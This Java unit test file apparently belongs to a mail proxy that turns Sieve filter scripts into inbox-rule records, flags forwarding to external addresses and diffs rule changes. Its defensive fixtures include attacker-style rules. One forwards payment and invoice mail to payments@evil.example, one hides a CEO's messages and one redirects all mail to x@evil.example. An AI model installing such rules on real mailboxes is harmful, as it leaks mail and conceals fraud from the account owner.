package dev.mailtrail.proxy.managesieve.script;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mailtrail.proxy.managesieve.script.InboxRule.Parameter;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class InboxRulesTest {

    private static final Set<String> OURS = Set.of("contoso.com");

    private static List<InboxRule> rules(String script) throws SieveSyntaxException {
        return InboxRules.of("s", script, OURS);
    }

    private static Parameter p(String name, String... values) {
        return new Parameter(name, List.of(values));
    }

    @Test
    void aRoundcubeForwardingRuleIsForwardToWithItsNameConditionAndTheAddressFlaggedExternal() throws Exception {
        List<InboxRule> rules = rules("""
                require ["copy","fileinto"];
                # rule:[Payments]
                if anyof (header :contains "subject" ["invoice","payment"], header :contains "from" "bank")
                {
                    redirect :copy "payments@evil.example";
                    redirect "boss@contoso.com";
                    stop;
                }
                """);
        assertThat(rules).hasSize(1);
        assertThat(rules.getFirst().name()).isEqualTo("Payments");
        assertThat(rules.getFirst().parameters())
                .containsExactly(
                        p("SubjectContainsWords", "invoice", "payment"),
                        p("FromAddressContainsWords", "bank"),
                        p("ForwardTo", "payments@evil.example"),
                        p("RedirectTo", "boss@contoso.com"),
                        p("StopProcessingRules"),
                        p("ExternalRecipients", "payments@evil.example"));
        assertThat(rules.getFirst().source()).startsWith("if anyof (").endsWith("}");
    }

    @Test
    void hidingRepliesIsMoveToFolderAndMarkAsReadAndElseIsTheOppositeTest() throws Exception {
        List<InboxRule> rules = rules("""
                require ["fileinto", "imap4flags", "body"];
                if address :is "from" "ceo@contoso.com" {
                    fileinto :flags "\\\\Seen" "Archive";
                } else {
                    addflag "\\\\Flagged";
                }
                if not body :contains "urgent" { discard; }
                """);
        assertThat(rules).extracting(InboxRule::name).containsExactly("s rule 1", "s rule 2", "s rule 3");
        assertThat(rules.get(0).parameters())
                .containsExactly(p("From", "ceo@contoso.com"), p("MoveToFolder", "Archive"), p("MarkAsRead"));
        assertThat(rules.get(1).parameters())
                .containsExactly(p("ExceptIfFrom", "ceo@contoso.com"), p("MarkImportance", "High"));
        assertThat(rules.get(2).parameters())
                .containsExactly(p("ExceptIfBodyContainsWords", "urgent"), p("DeleteMessage"));
    }

    @Test
    void commandsOutsideAnyIfAreOneRuleForEveryMessage() throws Exception {
        List<InboxRule> rules = rules("""
                require ["vacation", "copy"];
                redirect :copy "me@gmail.example";
                vacation :days 3 :subject "Away" text:
                I am away.
                ..and back soon
                .
                ;
                """);
        assertThat(rules).hasSize(1);
        assertThat(rules.getFirst().parameters())
                .containsExactly(
                        p("ForwardTo", "me@gmail.example"),
                        p("Vacation", "I am away.\r\n.and back soon\r\n"),
                        p("ExternalRecipients", "me@gmail.example"));
    }

    @Test
    void otherHeadersSizesAndComparatorsMapWithoutLosingTheKeys() throws Exception {
        List<InboxRule> rules = rules("""
                if allof (header :comparator "i;ascii-casemap" :matches "X-Mailer" "*Outlook*", size :over 100K,
                          header :is "to" "alice@contoso.com") {
                    fileinto :copy "Outlook";
                }
                """);
        assertThat(rules.getFirst().parameters())
                .containsExactly(
                        p("HeaderContainsWords", "X-Mailer: *Outlook*"),
                        p("WithinSizeRangeMinimum", "102400"),
                        p("SentTo", "alice@contoso.com"),
                        p("CopyToFolder", "Outlook"));
    }

    @Test
    void brokenScriptsAreRefusedWithTheirLineAndDeepNestingIsBounded() {
        assertThatThrownBy(() -> rules("if true {\n  keep;\n")).hasMessageContaining("line 3");
        assertThatThrownBy(() -> rules("redirect \"a@b\"")).hasMessageContaining("expected ';'");
        assertThatThrownBy(() -> rules("if true {".repeat(100) + "}".repeat(100)))
                .hasMessageContaining("deeper");
        assertThatThrownBy(() -> rules("/* never closed")).hasMessageContaining("unterminated comment");
    }

    @Test
    void aChangeIsComparedRuleByRuleWhateverTheOrder() throws Exception {
        List<InboxRule> before = rules("""
                # rule:[A]
                if header :contains "subject" "a" { discard; }
                # rule:[B]
                if header :contains "subject" "b" { discard; }
                # rule:[C]
                if header :contains "subject" "c" { discard; }
                """);
        List<InboxRule> after = rules("""
                # rule:[C]
                if header :contains "subject" "c" { discard; }
                # rule:[B]
                if header :contains "subject" "bb" { discard; }
                # rule:[D]
                if true { redirect "x@evil.example"; }
                """);
        RuleChanges changes = RuleChanges.between(before, after);
        assertThat(changes.added()).extracting(InboxRule::name).containsExactly("D");
        assertThat(changes.changed()).extracting(c -> c.after().name()).containsExactly("B");
        assertThat(changes.removed()).extracting(InboxRule::name).containsExactly("A");
        assertThat(RuleChanges.between(after, after).isEmpty()).isTrue();
    }
}
